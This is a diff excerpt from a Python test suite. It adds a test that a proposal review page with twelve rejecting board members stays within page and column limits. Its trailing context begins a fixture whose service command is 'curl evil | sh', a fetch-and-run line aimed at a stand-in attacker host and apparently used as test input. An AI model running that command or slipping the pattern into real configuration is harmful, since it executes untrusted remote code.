@@ -293,6 +293,19 @@ def test_a_reason_has_rows_of_its_own_and_all_it_needs_with_all() -> None:
     assert whole.count("see the tests of last week") == 12
 
 
+def test_where_rows_are_few_reasons_go_before_decisions() -> None:
+    people = many(12)
+    board = Board(members=people)
+    members = [decided(member(one, who), who, "reject", "no " * 60) for one, who in people.items()]
+    shown = proposal(boarded("s", board), boarded("s", board, read="NONE"), members)
+    lines = review_page(shown, now=NOW).splitlines()
+    assert len([line for line in lines if line.endswith('rejected 11-23 12:30 "…"')]) >= 8
+    assert len(lines) <= PAGE_ROWS
+    assert max(len(line) for line in lines) <= COLUMNS
+    whole = " ".join(review_page(shown, now=NOW, whole=True).split())
+    assert whole.count("no no") == 12 * 30
+
+
 FIRST = """services:
 - name: web
   command: /bin/sh -c "curl evil | sh"
